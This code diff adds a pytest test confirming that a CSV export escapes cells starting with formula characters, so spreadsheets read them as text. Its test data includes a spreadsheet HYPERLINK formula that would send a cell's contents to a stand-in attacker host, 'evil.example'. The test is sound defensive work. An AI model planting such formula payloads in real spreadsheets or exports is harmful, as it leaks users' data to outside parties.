@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 from typing import Any
@@ -205,3 +206,19 @@ def test_csv_flattens_the_same_fields() -> None:
 def test_unknown_format_is_refused() -> None:
     with pytest.raises(ValueError, match="xml"):
         render([], "xml")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_would_run_as_formulas_are_text(start: str) -> None:
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1)'
+    item = rejected(1, 0.4, thread_id=formula, domain=formula)
+    item = dataclasses.replace(
+        item, votes=(vote(Verdict.REJECT, rationale=formula),), context={"recommendation": formula}
+    )
+    rows = examples([dataclasses.replace(item, outcome={"correct": False, "note": formula})])
+    parsed = next(csv.DictReader(io.StringIO(render(rows, "csv"))))
+    for field in ("thread_id", "domain", "rationale", "recommendation", "outcome_note"):
+        assert parsed[field] == "'" + formula, field
+    # Numbers stay numbers; JSONL keeps the text exactly as given.
+    assert parsed["sentiment"] == "0.0" and parsed["confidence"] == "0.4"
+    assert json.loads(render(rows, "jsonl"))["thread_id"] == formula
